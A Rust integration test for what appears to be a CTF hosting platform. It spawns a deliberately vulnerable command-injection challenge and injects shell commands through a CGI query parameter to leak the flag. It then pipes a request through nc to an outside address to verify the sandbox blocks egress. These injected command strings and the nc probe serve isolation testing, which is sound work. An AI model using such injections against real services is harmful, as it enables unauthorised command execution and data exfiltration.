#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The bundled challenges that hand players code execution by design, exploited as a player
//! would from outside: the exploit works (it yields the instance's flag), and what it runs
//! reaches nothing beyond the instance.

mod attack_support;
mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use attack_support::{OUTSIDE_ADDR, Outside, ensure_firewall, host_probe, outside_lock};
use common::Fixture;

/// `s` with every byte but letters and digits percent-encoded, for a query string.
fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// The page web-cmdinject's lookup answers for `host` (the injection point).
fn lookup(port: u16, host: &str) -> String {
    let mut s = TcpStream::connect(("127.0.0.1", port)).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    write!(
        s,
        "GET /cgi-bin/lookup?host={} HTTP/1.0\r\nHost: localhost\r\n\r\n",
        url_encode(host)
    )
    .unwrap();
    let mut page = String::new();
    s.read_to_string(&mut page).expect("read the page");
    page
}

#[tokio::test(flavor = "multi_thread")]
async fn web_cmdinject_code_execution_reaches_nothing_outside() {
    let _one_at_a_time = outside_lock().await;
    ensure_firewall();
    let _outside = Outside::new();
    let f = Fixture::new().await;
    let rec = f.spawn("web-cmdinject", "team:rce").await;
    let port = rec.ports.first().expect("a published port").host_port;
    assert!(host_probe("127.0.0.1", port, true).is_some_and(|l| l.contains("HTTP/1.")));

    // The intended exploit works: commands run, and the flag comes out…
    let page = lookup(port, "127.0.0.1; echo XFLAGX$FLAG; id; true");
    let flag = rec.flag.clone().expect("a flag");
    assert!(page.contains(&format!("XFLAGX{flag}")), "{page}");
    assert!(page.contains("uid="), "{page}");
    // …and so does the honest use, without any DNS.
    let page = lookup(port, "localhost");
    assert!(page.contains("127.0.0.1"), "{page}");

    // But what the player runs gets nowhere outside, not even to an address the host reaches
    // (nor, by the same missing route, to any name server out there).
    let page = lookup(
        port,
        &format!("x; printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 {OUTSIDE_ADDR} 80; echo PROBED"),
    );
    assert!(page.contains("PROBED"), "the probe ran: {page}");
    assert!(!page.contains("outside"), "reached {OUTSIDE_ADDR}: {page}");
    let network = f
        .engine
        .client()
        .inspect_network(
            &format!("ctfdeck-{}", rec.id),
            None::<bollard::query_parameters::InspectNetworkOptions>,
        )
        .await
        .unwrap();
    assert_eq!(network.internal, Some(true), "no route out");
    f.cleanup().await;
    assert_eq!(f.leftovers().await, (0, 0));
}
